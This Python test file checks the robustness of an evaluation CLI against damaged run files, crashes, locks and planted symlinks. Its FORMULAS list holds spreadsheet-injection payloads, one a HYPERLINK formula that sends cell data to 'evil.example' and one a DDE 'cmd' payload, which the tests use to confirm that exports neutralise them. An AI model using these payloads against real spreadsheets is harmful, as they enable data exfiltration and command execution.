"""A finished run folder read back after a crash, a bad copy or a hand edit changed it: `eval report`,
`eval review export|import`, `eval compare` and a rerun of `eval run` on results.json, samples.jsonl,
human_review.jsonl and manifest.json that are truncated, garbage, nested too deeply, of the wrong types
or named pipes. Each ends in one line naming the file (exit 3; a rerun over a folder whose manifest is
damaged leaves it untouched, exit 4), never a traceback or a hang, and nothing of the run is rewritten."""

from __future__ import annotations

import csv
import io
import os

import pytest
from click.testing import CliRunner

from builder.cli import main
from conftest import copy_run
from scripted_server import ScriptedServer

pytestmark = pytest.mark.timeout(300)  # a pipe read by mistake blocks: fail instead of hanging

WRONG_TYPES = {
    "results.json": b'{"format": "mmrc-eval-results/2", "overall": "high", "questions": 3}',
    "samples.jsonl": b'{"sample_id": 7, "config": "default", "ability": "CR", "prediction": "yes"}\n',
    "human_review.jsonl": b'{"sample_id": "x", "ability": "CR", "annotator": "a", "score": "5", "answer_sha256": "0"}\n',
    "manifest.json": b"[]",
}
DAMAGE = {
    "truncated": lambda name, data: data[: len(data) // 2],
    "garbage": lambda name, data: b"\xff\xfe\x00 not json " * 20,
    "nested too deeply": lambda name, data: b"[" * 100_000 + b"]" * 100_000 + b"\n",
    "an integer of 5000 digits": lambda name, data: b'{"n": ' + b"9" * 5000 + b"}\n",
    "wrong types": lambda name, data: WRONG_TYPES[name],
    "a pipe": None,
}
# (file, command): every reader of every file
READERS = [("results.json", "report"), ("results.json", "compare"), ("results.json", "review import"),
           ("samples.jsonl", "review export"), ("samples.jsonl", "review import"), ("samples.jsonl", "compare"),
           ("human_review.jsonl", "review import"), ("human_review.jsonl", "rerun"),
           ("manifest.json", "review import"), ("manifest.json", "rerun")]


def judge_or_answer(body: dict) -> str:
    return "Fine.\nREFUSED: no\n[[4]]" if body["model"] == "judge" else "Image 1"


@pytest.fixture(scope="module")
def server():
    with ScriptedServer(judge_or_answer) as srv:
        yield srv


def invoke(*args):
    return CliRunner().invoke(main, [str(a) for a in args])


def one_line(result, code: int) -> str:
    lines = result.output.strip().splitlines()
    assert result.exit_code == code, (result.output, repr(result.exception))
    assert len(lines) == 1 and lines[0].startswith("Error: "), result.output
    return lines[0]


def filled_sheet(run, path, score="4", annotator="ann-1"):
    assert invoke("eval", "review", "export", run, "-o", path).exit_code == 0
    limit = csv.field_size_limit(1 << 30)  # a spreadsheet takes long cells
    try:
        with open(path, newline="", encoding="utf-8") as fh:
            rows = list(csv.DictReader(fh))
    finally:
        csv.field_size_limit(limit)
    for row in rows:
        row["human_score"], row["annotator"] = score, annotator
    with open(path, "w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path


def snapshot(run) -> dict:
    return {p.name: (p.read_bytes() if p.is_file() else "not a file") for p in sorted(run.iterdir())}


@pytest.mark.parametrize("name, command", READERS)
@pytest.mark.parametrize("damage", list(DAMAGE))
def test_a_damaged_run_file_is_one_line_naming_it(finished_run, eval_release, server, tmp_path, name, command, damage):
    run = copy_run(finished_run, tmp_path)
    sheet = filled_sheet(finished_run, tmp_path / "sheet.csv")
    if name == "human_review.jsonl" or command == "rerun":
        assert invoke("eval", "review", "import", run, sheet).exit_code == 0  # the run has reviews to damage
    path = run / name
    if DAMAGE[damage] is None:
        path.unlink()
        os.mkfifo(path)
    else:
        path.write_bytes(DAMAGE[damage](name, path.read_bytes()))
    before = snapshot(run)
    args = {"report": ["eval", "report", run.parent.parent],
            "compare": ["eval", "compare", finished_run, run],
            "review import": ["eval", "review", "import", run, sheet, "--replace"],
            "review export": ["eval", "review", "export", run, "-o", tmp_path / "new.csv"],
            "rerun": ["eval", "run", eval_release, "--revision", "v0.1.0", "--backend", "openai", "--base-url",
                      server.url, "--model", "scripted", "--name", "scripted", "--judge", "none", "-o",
                      run.parent.parent, "--quiet"]}[command]
    if (name, command) == ("manifest.json", "rerun"):  # the tool cannot tell it wrote the folder: left untouched
        assert "was not written by `mmrc-build eval run`; it was left untouched" in one_line(invoke(*args), 4)
    else:
        line = one_line(invoke(*args), 3)
        assert str(path) in line and "; " in line
    assert snapshot(run) == before  # nothing imported, nothing rewritten
    assert not (tmp_path / "new.csv").exists()


# -- review sheets ------------------------------------------------------------------------------------
def rewrite(sheet, header: list[str], rows: list[list[str]]):
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(rows)
    sheet.write_bytes(b"\xef\xbb\xbf" + buf.getvalue().encode("utf-8"))  # as a spreadsheet saves it: BOM, CRLF
    return sheet


def test_a_sheet_that_repeats_a_column_is_refused(finished_run, tmp_path):
    run = copy_run(finished_run, tmp_path)
    sheet = filled_sheet(run, tmp_path / "sheet.csv")
    rows = list(csv.reader(io.StringIO(sheet.read_text(encoding="utf-8"))))
    rewrite(sheet, rows[0] + ["human_score"], [row + [""] for row in rows[1:]])  # a second, empty human_score
    before = snapshot(run)
    line = one_line(invoke("eval", "review", "import", run, sheet), 3)
    assert "sheet.csv repeats column(s) 'human_score'" in line and "name each column once" in line
    assert snapshot(run) == before


def test_an_annotator_name_with_control_characters_is_a_bad_row(finished_run, tmp_path):
    run = copy_run(finished_run, tmp_path)
    sheet = filled_sheet(run, tmp_path / "sheet.csv", annotator="ann\x1b[2J\rmallory")
    result = invoke("eval", "review", "import", run, sheet)
    assert result.exit_code == 6 and "\x1b" not in result.output and "\r" not in result.output
    assert "sheet.csv row 2: annotator has control characters" in result.output
    assert not (run / "human_review.jsonl").exists()


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def run_and_export(eval_release, tmp_path, answer: str):
    """A one-dialogue run whose model answers ``answer`` everywhere, and its exported review sheet's rows."""
    out = tmp_path / "evals"
    with ScriptedServer(lambda body: answer) as srv:
        result = invoke("eval", "run", eval_release, "--revision", "v0.1.0", "--backend", "openai", "--base-url",
                        srv.url, "--model", "m", "--name", "m", "--judge", "none", "--configs", "default", "--limit",
                        "1", "-o", out, "--quiet")
    assert result.exit_code == 0, result.output
    run = out / "mmrc-v0.1.0" / "m"
    sheet = tmp_path / "sheet.csv"
    assert invoke("eval", "review", "export", run, "-o", sheet).exit_code == 0
    with open(sheet, newline="", encoding="utf-8") as fh:
        return run, list(csv.DictReader(fh))


@pytest.mark.parametrize("answer", FORMULAS)
def test_review_export_neutralises_cells_a_spreadsheet_would_run(eval_release, tmp_path, answer):
    run, rows = run_and_export(eval_release, tmp_path, answer)
    assert rows and all(row["answer"] == "'" + answer.strip() or row["answer"] == "'" + answer for row in rows)
    cells = [cell for row in rows for cell in row.values()]
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells)
    filled = filled_sheet(run, tmp_path / "filled.csv")  # still imports: the answer is matched by its sha256
    assert invoke("eval", "review", "import", run, filled).exit_code == 0


@pytest.mark.parametrize("answer", ["Roses\rtulips", "Roses\u2028tulips", "Roses\x85tulips", "Roses\x1etulips",
                                    "a \"quoted\", answer\non two lines"])
def test_answers_with_line_breaks_of_any_kind_survive_the_sheet(eval_release, tmp_path, answer):
    run, rows = run_and_export(eval_release, tmp_path, answer)
    sheet = tmp_path / "sheet.csv"
    assert len(rows) == 3 and {row["answer"] for row in rows} == {answer}
    for row in rows:
        row["human_score"], row["annotator"] = "3", "ann-1"
    with open(sheet, "w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    imported = invoke("eval", "review", "import", run, sheet)
    assert imported.exit_code == 0 and "imported 3 score(s)" in imported.output, imported.output


def test_a_row_with_fewer_cells_than_the_header_says_so(finished_run, tmp_path):
    run = copy_run(finished_run, tmp_path)
    sheet = filled_sheet(run, tmp_path / "sheet.csv")
    lines = sheet.read_text(encoding="utf-8").splitlines(keepends=True)
    lines[1] = ",".join(lines[1].split(",")[:3]) + "\n"
    sheet.write_text("".join(lines), encoding="utf-8")
    result = invoke("eval", "review", "import", run, sheet)
    assert result.exit_code == 6 and "sheet.csv row 2: the row has 3 cells but the header has 12" in result.output


@pytest.mark.parametrize("name", ["results.json", "samples.jsonl", "manifest.json", "_SUCCESS"])
def test_review_export_never_writes_over_a_file_of_the_run(finished_run, tmp_path, name):
    run = copy_run(finished_run, tmp_path)
    before = snapshot(run)
    line = one_line(invoke("eval", "review", "export", run, "-o", run / name, "--force"), 2)
    assert f"{run / name} is a file of the run" in line
    assert snapshot(run) == before


# -- a rerun over a run folder ------------------------------------------------------------------------
def rerun(eval_release, server, run):
    return invoke("eval", "run", eval_release, "--revision", "v0.1.0", "--backend", "openai", "--base-url",
                  server.url, "--model", "scripted", "--name", run.name, "--judge-backend", "openai",
                  "--judge-base-url", server.url, "--judge-model", "judge", "-o", run.parent.parent, "--quiet")


def test_a_rerun_keeps_what_a_user_put_in_the_run_folder(finished_run, eval_release, server, tmp_path):
    run = copy_run(finished_run, tmp_path)
    assert invoke("eval", "review", "export", run).exit_code == 0  # the default place: RUN/review-CR-IU-MR.csv
    sheet = run / "review-CR-IU-MR.csv"
    sheet.write_bytes(sheet.read_bytes().replace(b",,,", b",3,me,", 2))  # half filled in
    (run / "notes").mkdir()
    (run / "notes" / "todo.txt").write_text("score IU first")
    (run / "elsewhere").symlink_to(tmp_path)
    mine = {"review-CR-IU-MR.csv": sheet.read_bytes(), "notes/todo.txt": b"score IU first"}
    result = rerun(eval_release, server, run)
    assert result.exit_code == 0, result.output
    assert {name: (run / name).read_bytes() for name in mine} == mine
    assert (run / "elsewhere").is_symlink() and (run / "elsewhere").resolve() == tmp_path.resolve()
    assert (run / "_SUCCESS").exists()


def test_a_run_killed_between_its_two_renames_keeps_its_reviews(finished_run, eval_release, server, tmp_path):
    run = copy_run(finished_run, tmp_path)
    assert invoke("eval", "review", "import", run, filled_sheet(run, tmp_path / "sheet.csv", score="1")).exit_code == 0
    reviews = (run / "human_review.jsonl").read_bytes()
    os.replace(run, run.parent / f".{run.name}.old")  # what SIGKILL after the first os.replace of _write leaves
    result = rerun(eval_release, server, run)
    assert result.exit_code == 0, result.output
    assert (run / "human_review.jsonl").read_bytes() == reviews
    assert not (run.parent / f".{run.name}.old").exists()


# -- compare --------------------------------------------------------------------------------------------
def test_compare_across_releases_pairs_only_questions_that_are_the_same(finished_run, server, tmp_path, monkeypatch):
    import json

    import eval_fixtures

    original = eval_fixtures.six_questions

    def changed(source_id):  # v0.2.0 corrects the CR reference answer; the question and its id stay
        questions = original(source_id)
        questions[1] = {**questions[1], "answer": "garden"}
        return questions

    monkeypatch.setattr(eval_fixtures, "six_questions", changed)
    release = eval_fixtures.build_release(tmp_path / "v2", n=4, version="0.2.0")
    result = invoke("eval", "run", release, "--revision", "v0.2.0", "--backend", "openai", "--base-url", server.url,
                    "--model", "scripted", "--name", "scripted", "--judge-backend", "openai", "--judge-base-url",
                    server.url, "--judge-model", "judge", "-o", tmp_path / "evals", "--quiet")
    assert result.exit_code == 0, result.output
    b = tmp_path / "evals" / "mmrc-v0.2.0" / "scripted"
    out = json.loads(invoke("eval", "compare", finished_run, b, "--json").output)
    assert out["shared"] == 20 and out["differ"] == 4 and out["abilities"]["CR"]["n"] == 0
    assert [r["revision"] for r in out["releases"]] == ["v0.1.0", "v0.2.0"]
    text = invoke("eval", "compare", finished_run, b).output
    assert "different releases" in text and "4 question(s) with the same id differ" in text


@pytest.mark.parametrize("resamples", ["-1", "1000000000"])
def test_compare_refuses_a_bootstrap_it_cannot_or_should_not_run(finished_run, resamples):
    result = invoke("eval", "compare", finished_run, finished_run, "--bootstrap", resamples)
    assert result.exit_code == 2 and "--bootstrap" in result.output and "0<=x<=100000" in result.output


# -- two writers, and SIGKILL at random points --------------------------------------------------------------
def test_review_import_while_a_run_writes_the_folder_is_refused(finished_run, tmp_path):
    from builder.locks import FolderLock

    run = copy_run(finished_run, tmp_path)
    sheet = filled_sheet(run, tmp_path / "sheet.csv")
    before = snapshot(run)
    with FolderLock(run):  # an `eval run` rerun of the same folder is in progress
        line = one_line(invoke("eval", "review", "import", run, sheet), 9)
    assert "is being written by another process" in line and snapshot(run) == before
    assert invoke("eval", "review", "import", run, sheet).exit_code == 0  # once it is done, the import goes in


def test_sigkill_at_random_points_then_a_rerun_gives_the_bytes_of_an_uninterrupted_run(eval_release, tmp_path):
    import random
    import signal
    import subprocess
    import sys
    import time

    from conftest import REPO

    def slow(body):  # slow enough that a kill lands in predict, judge or the final write
        time.sleep(0.02)
        return "Fine.\nREFUSED: no\n[[3]]" if body["model"] == "judge" else "Image 2"

    listed = (200, b'{"data": [{"id": "scripted"}, {"id": "judge"}]}', {})
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(REPO), os.environ.get("PYTHONPATH", "")])}
    with ScriptedServer(slow, models=lambda: listed) as srv:
        def cli(out):
            return [sys.executable, "-m", "builder.cli", "eval", "run", str(eval_release), "--revision", "v0.1.0",
                    "--backend", "openai", "--base-url", srv.url, "--model", "scripted", "--name", "r",
                    "--judge-backend", "openai", "--judge-base-url", srv.url, "--judge-model", "judge",
                    "--concurrency", "2", "-o", str(out), "--quiet"]

        started = time.monotonic()
        clean = subprocess.run(cli(tmp_path / "clean"), capture_output=True, text=True, env=env)
        took = time.monotonic() - started
        assert clean.returncode == 0, clean.stderr
        rng = random.Random(23)
        out = tmp_path / "killed"
        for _ in range(3):
            proc = subprocess.Popen(cli(out), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=env)
            time.sleep(rng.uniform(0.3, 1.0) * took)
            proc.send_signal(signal.SIGKILL)
            proc.wait()
        resumed = subprocess.run(cli(out), capture_output=True, text=True, env=env)
    assert resumed.returncode == 0, resumed.stderr
    for name in ("samples.jsonl", "results.json"):
        assert (out / "mmrc-v0.1.0" / "r" / name).read_bytes() == (tmp_path / "clean" / "mmrc-v0.1.0" / "r" /
                                                                     name).read_bytes()
    assert sorted(p.name for p in (out / "mmrc-v0.1.0").iterdir()) == [".r.lock", "r"]  # no partial left over


def test_a_run_named_through_a_symlink_shares_the_lock_of_the_real_folder(finished_run, tmp_path):
    from builder.locks import FolderLock

    run = copy_run(finished_run, tmp_path)
    link = tmp_path / "latest"
    link.symlink_to(run)
    sheet = filled_sheet(run, tmp_path / "sheet.csv")
    before = snapshot(run)
    with FolderLock(run):  # `eval run` writes the real folder
        line = one_line(invoke("eval", "review", "import", link, sheet), 9)
    assert "is being written by another process" in line and snapshot(run) == before


# -- links planted where the tool writes (a shared evals folder) ---------------------------------------------
@pytest.mark.parametrize("planted", ["RUN/../.scripted.partial", "RUN/.results.json.tmp", "RUN/.human_review.jsonl.tmp",
                                     "OUT/leaderboard.md", "OUT/radar.png", "OUT/mmrc-v0.1.0/topics.png",
                                     "SHEET/.sheet.csv.tmp"])
def test_a_link_planted_where_the_tool_writes_never_leads_outside(finished_run, eval_release, server, tmp_path,
                                                                    planted):
    run = copy_run(finished_run, tmp_path)
    out = run.parent.parent
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "precious.txt").write_text("years of work")
    link = tmp_path / planted.replace("RUN", str(run.relative_to(tmp_path))).replace(
        "OUT", str(out.relative_to(tmp_path))).replace("SHEET", "sheets")
    link.parent.mkdir(parents=True, exist_ok=True)
    link = link.parent.resolve() / link.name
    link.symlink_to(victim if planted.endswith(".partial") else victim / "precious.txt")
    if planted.startswith("RUN/../"):  # a rerun swaps the run folder through .NAME.partial
        result = invoke("eval", "run", eval_release, "--revision", "v0.1.0", "--backend", "openai", "--base-url",
                        server.url, "--model", "scripted", "--name", "scripted", "--judge", "none", "-o", out, "--quiet")
    elif planted.startswith("RUN/"):  # review import rewrites results.json and human_review.jsonl
        result = invoke("eval", "review", "import", run, filled_sheet(finished_run, tmp_path / "filled.csv"))
    elif planted.startswith("OUT/"):
        result = invoke("eval", "report", out)
    else:
        result = invoke("eval", "review", "export", run, "-o", tmp_path / "sheets" / "sheet.csv")
    assert result.exit_code == 0, (result.output, repr(result.exception))
    assert sorted(p.name for p in victim.iterdir()) == ["precious.txt"]
    assert (victim / "precious.txt").read_text() == "years of work"


def test_a_lock_file_that_is_a_link_is_refused_and_left_alone(finished_run, eval_release, server, tmp_path):
    run = copy_run(finished_run, tmp_path)
    victim = tmp_path / "precious.txt"
    victim.write_text("years of work")
    (run.parent / f".{run.name}.lock").symlink_to(victim)
    result = invoke("eval", "run", eval_release, "--revision", "v0.1.0", "--backend", "openai", "--base-url",
                    server.url, "--model", "scripted", "--name", "scripted", "--judge", "none", "-o", run.parent.parent,
                    "--quiet")
    line = one_line(result, 4)
    assert "is a symbolic link" in line and victim.read_text() == "years of work"


def test_a_sheet_saved_by_a_spreadsheet_with_extra_columns_imports(finished_run, tmp_path):
    run = copy_run(finished_run, tmp_path)
    sheet = filled_sheet(run, tmp_path / "sheet.csv", score="2")
    rows = list(csv.reader(io.StringIO(sheet.read_text(encoding="utf-8"), newline="")))
    rewrite(sheet, rows[0] + ["my notes", ""], [row + ["checked twice", "x"] for row in rows[1:]])  # BOM, CRLF
    result = invoke("eval", "review", "import", run, sheet)
    assert result.exit_code == 0 and "imported 12 score(s)" in result.output, result.output


def test_a_sheet_over_the_size_limit_is_refused_unread(finished_run, tmp_path):
    sheet = tmp_path / "huge.csv"
    with open(sheet, "wb") as fh:
        fh.truncate(300 << 20)  # sparse: 300 MiB on paper, nothing on the disk
    run = copy_run(finished_run, tmp_path)
    assert "is over 256 MiB" in one_line(invoke("eval", "review", "import", run, sheet), 3)


def test_a_run_folder_that_is_a_link_is_never_replaced(finished_run, eval_release, server, tmp_path):
    run = copy_run(finished_run, tmp_path)
    elsewhere = tmp_path / "elsewhere"
    run.rename(elsewhere)
    run.symlink_to(elsewhere)
    before = snapshot(elsewhere)
    result = invoke("eval", "run", eval_release, "--revision", "v0.1.0", "--backend", "openai", "--base-url",
                    server.url, "--model", "scripted", "--name", "scripted", "--judge", "none", "-o",
                    run.parent.parent, "--quiet")
    assert "was not written by `mmrc-build eval run`; it was left untouched" in one_line(result, 4)
    assert run.is_symlink() and snapshot(elsewhere) == before


def test_a_long_answer_survives_the_sheet_round_trip(eval_release, tmp_path):
    answer = "roses, " * 30_000  # 210,000 characters: a reasoning model's answer under --max-new-tokens 20000
    out = tmp_path / "evals"
    with ScriptedServer(lambda body: answer) as srv:
        result = invoke("eval", "run", eval_release, "--revision", "v0.1.0", "--backend", "openai", "--base-url",
                        srv.url, "--model", "m", "--name", "m", "--judge", "none", "--configs", "default", "--limit",
                        "1", "--max-new-tokens", "20000", "-o", out, "--quiet")
    assert result.exit_code == 0, result.output
    run = out / "mmrc-v0.1.0" / "m"
    sheet = filled_sheet(run, tmp_path / "sheet.csv")
    imported = invoke("eval", "review", "import", run, sheet)
    assert imported.exit_code == 0 and "imported 3 score(s)" in imported.output, imported.output
